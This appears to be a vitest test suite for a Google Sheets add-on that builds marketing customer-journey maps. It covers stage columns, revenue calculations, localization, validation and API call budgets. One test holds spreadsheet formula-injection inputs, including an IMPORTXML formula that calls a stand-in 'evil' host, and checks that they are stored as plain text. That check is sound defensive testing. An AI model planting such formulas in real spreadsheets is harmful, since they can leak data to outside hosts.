/** A new map as a marketer sees it, through the built add-on in the emulator. */
import { beforeEach, describe, expect, it } from 'vitest';
import { ROW } from '../../../src/core/map/layout';
import { openSpreadsheet, type Session } from '../../support/addon';

const stageCols = ['C', 'D', 'E', 'F', 'G', 'H'];

describe('a new map, as a marketer sees it', () => {
  let s: Session;
  beforeEach(() => {
    s = openSpreadsheet('en_US');
  });

  it('has the six checklist stages as columns and every row label', () => {
    const sheet = s.newMap();
    expect(sheet).toBe('Office workers — Coffee beans');
    expect(stageCols.map((c) => s.wb.value(sheet, `${c}${ROW.header}`))).toEqual([
      'Initial consideration',
      'Active evaluation',
      'Purchase',
      'Experience',
      'Trigger',
      'Loyalty',
    ]);
    expect(s.wb.value(sheet, `A${ROW.questions}`)).toBe('Customer questions');
    expect(s.wb.value(sheet, `A${ROW.barrierType}`)).toBe('Barrier type');
    expect(s.wb.value(sheet, `A${ROW.revenue}`)).toBe('Revenue = L × C × P × Q');
    expect(s.wb.value(sheet, 'B2')).toBe('Office workers');
  });

  it('computes revenue after the marketer types counts, check and purchases', () => {
    const sheet = s.newMap();
    [1000, 400, 100, 90, 60, 40].forEach((n, i) => {
      s.wb.setCell(sheet, `${stageCols[i]}${ROW.customers}`, n);
    });
    expect(s.wb.value(sheet, `B${ROW.revenue}`)).toBe('');
    s.wb.setCell(sheet, `B${ROW.avgCheck}`, 2000);
    s.wb.setCell(sheet, `B${ROW.purchases}`, 1.5);
    expect(s.wb.value(sheet, `B${ROW.leads}`)).toBe(1000);
    expect(s.wb.value(sheet, `B${ROW.conversion}`)).toBeCloseTo(0.1, 12);
    expect(s.wb.value(sheet, `B${ROW.revenue}`)).toBeCloseTo(300_000, 6);
    expect(s.wb.value(sheet, `D${ROW.step}`)).toBeCloseTo(0.4, 12);
    expect(s.wb.value(sheet, `E${ROW.dropOff}`)).toBe(300);
    expect(s.wb.value(sheet, `B${ROW.weakest}`)).toBe('Active evaluation → Purchase');
  });

  it("a count out of order shows as a highlighted note on its stage, in the user's language; the rest computes", () => {
    const sheet = s.newMap();
    // the third stage has more customers than the second: a data problem, not a crash
    [1000, 400, 500, 90, 60, 40].forEach((n, i) => {
      s.wb.setCell(sheet, `${stageCols[i]}${ROW.customers}`, n);
    });
    expect(String(s.wb.value(sheet, `E${ROW.step}`))).toMatch(/^⚠ more than the previous stage/);
    expect(s.wb.value(sheet, `D${ROW.step}`)).toBeCloseTo(0.4, 12);
    expect(s.wb.value(sheet, `G${ROW.step}`)).toBeCloseTo(60 / 90, 12);
    // the weakest transition is still found among the valid steps the row shows (90 of 500 = 18% is
    // lower than 40%, 60 of 90 and 40 of 60)
    expect(s.wb.value(sheet, `F${ROW.step}`)).toBeCloseTo(0.18, 12);
    expect(s.wb.value(sheet, `B${ROW.weakest}`)).toBe('Purchase → Experience');
    const rules = s.wb.spreadsheet.getSheetByName(sheet)!.getConditionalFormatRules();
    const warn = rules.find(
      (r) =>
        r.getBooleanCondition()?.getCriteriaValues()[0] === '⚠' &&
        r.getRanges().some((g) => g.getA1Notation().startsWith(`C${ROW.step}:`)),
    );
    expect(warn?.getBooleanCondition()?.getBackground()).toBeTruthy();
  });

  it('is filled with the worked example in Russian, with the hand-computed economics', () => {
    const ru = openSpreadsheet('ru_RU');
    const sheet = ru.newMap({ example: true });
    expect(sheet).toBe('Фитнес-клуб — годовой абонемент');
    expect(ru.wb.value(sheet, `A${ROW.barriers}`)).toBe('Барьеры');
    expect(ru.wb.value(sheet, `B${ROW.leads}`)).toBe(2000);
    expect(ru.wb.value(sheet, `B${ROW.conversion}`)).toBeCloseTo(0.06, 12);
    expect(ru.wb.value(sheet, `B${ROW.revenue}`)).toBeCloseTo(4_680_000, 4);
    expect(ru.wb.value(sheet, `B${ROW.weakest}`)).toBe('Активная оценка → Сделка');
    expect(ru.wb.display(sheet, `B${ROW.revenue}`)).toMatch(/4\s680\s000/);
  });

  it('never overwrites a sheet: a taken name gets " (2)"', () => {
    const first = s.newMap({ name: 'Pair' });
    s.wb.setCell(first, 'C9', 'typed by hand');
    const second = s.newMap({ name: 'Pair' });
    expect(second).toBe('Pair (2)');
    expect(s.wb.value(first, 'C9')).toBe('typed by hand');
  });

  it('writes what the user typed as text, never as a formula', () => {
    const tricky = ['=IMPORTXML("http://evil","//a")', '+1', '-x', '@a'];
    const sheet = s.newMap({
      name: 'Safe',
      segment: tricky[0],
      product: tricky[1],
      preset: 'custom',
      stages: [tricky[2]!, tricky[3]!, 'Buy'],
    });
    expect(s.wb.value(sheet, 'B2')).toBe(tricky[0]);
    expect(s.wb.formula(sheet, 'B2')).toBe('');
    expect(s.wb.value(sheet, 'B3')).toBe('+1');
    expect(s.wb.value(sheet, `C${ROW.header}`)).toBe('-x');
    expect(s.wb.value(sheet, `D${ROW.header}`)).toBe('@a');
  });

  it('refuses an empty pair with a message for the field, in the form language', () => {
    const result = s.addon.callFromClient('createMap', {
      name: '',
      segment: '',
      product: '',
      preset: 'checklist6',
      stages: [],
      lang: 'ru',
      locale: 'ru_RU',
      example: false,
    });
    expect(result).toEqual({ ok: false, fieldErrors: { segment: 'Заполните это поле.' } });
    const custom = s.addon.callFromClient('createMap', {
      name: 'x',
      segment: '',
      product: '',
      preset: 'custom',
      stages: ['Only one'],
      lang: 'en',
      locale: 'en_US',
      example: false,
    });
    expect(custom).toEqual({
      ok: false,
      fieldErrors: { stages: 'Give 2 to 40 stage names, one per line.' },
    });
    expect(s.wb.sheetNames()).toEqual(['Sheet1']);
  });

  it('costs the same fixed number of Apps Script calls for 6 and 30 stages', () => {
    s.wb.calls.reset();
    s.newMap();
    const six = s.wb.calls.total;
    s.wb.calls.reset();
    s.newMap({
      name: 'Big',
      preset: 'custom',
      stages: Array.from({ length: 30 }, (_, i) => `S${i + 1}`),
    });
    const thirty = s.wb.calls.total;
    // 25, the maps' change stamp the open wizards poll (a document property, no round trip), and
    // the spreadsheet's locale now (metadata: the form's may be stale)
    expect(six).toBeLessThanOrEqual(28);
    expect(thirty).toBeLessThanOrEqual(28);
    expect(thirty - six).toBeLessThanOrEqual(1);
    expect(s.wb.calls.byName['Range.setValues']).toBe(1);
  });
});
